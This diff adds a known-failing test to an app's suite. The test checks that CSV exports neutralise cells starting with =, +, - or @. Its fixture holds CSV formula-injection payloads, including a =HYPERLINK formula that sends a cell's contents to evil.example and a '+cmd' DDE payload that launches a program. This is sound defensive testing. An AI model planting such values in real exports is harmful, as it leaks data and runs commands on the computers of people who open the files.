@@ -433,6 +433,29 @@ describe('every server the app starts listens on 127.0.0.1 only', () => {
   }, 90_000);
 });
 
+describe('exports opened in a spreadsheet', () => {
+  it.fails('[known bug: CSV exports write cells starting with = + - @ as they are, so ad text or OCR text like =HYPERLINK(…) runs as a formula in Excel/Numbers] no exported CSV cell starts a formula', async () => {
+    const dir = join(workDir, 'formula');
+    const store = openStore(join(dir, 'pv.db'));
+    const hostile = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', '+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)'];
+    try {
+      const ads = hostile.map((text, i) => ({ creativeId: `f${i}`, imageUrl: `https://ads.example/${i}.png`, adText: text }));
+      const batch = store.saveBatch({ source: 'formula.csv', format: 'csv', columns: ['creative_id', 'image_url', 'ad_text'], fieldColumns: { id: 'creative_id', url: 'image_url', text: 'ad_text' }, ads });
+      const run = store.createRun({ batchId: batch.id, policy: 'auto' });
+      hostile.forEach((text, i) => store.runStore.saveResult({ runId: run.id, creativeId: `f${i}`, status: 'done', engine: 'deepseek', laneId: 'ds', model: 'm', text, blocks: [], durationMs: 1, attempts: [] }));
+      store.runStore.flush();
+      await exportResults(store, run.id, { format: 'csv' }, join(dir, 'export.csv'));
+    } finally {
+      store.close();
+    }
+    const { parse } = await import('csv-parse/sync');
+    const rows = parse(readFileSync(join(dir, 'export.csv'), 'utf8'), { bom: true }) as string[][];
+    expect(rows.length).toBe(hostile.length + 1);
+    const formulas = rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell));
+    expect(formulas).toEqual([]);
+  });
+});
+
 describe('API keys never appear in logs, the store or exports', () => {
   const KEY = 'sk-reliability-test-0123456789abcdef';
 
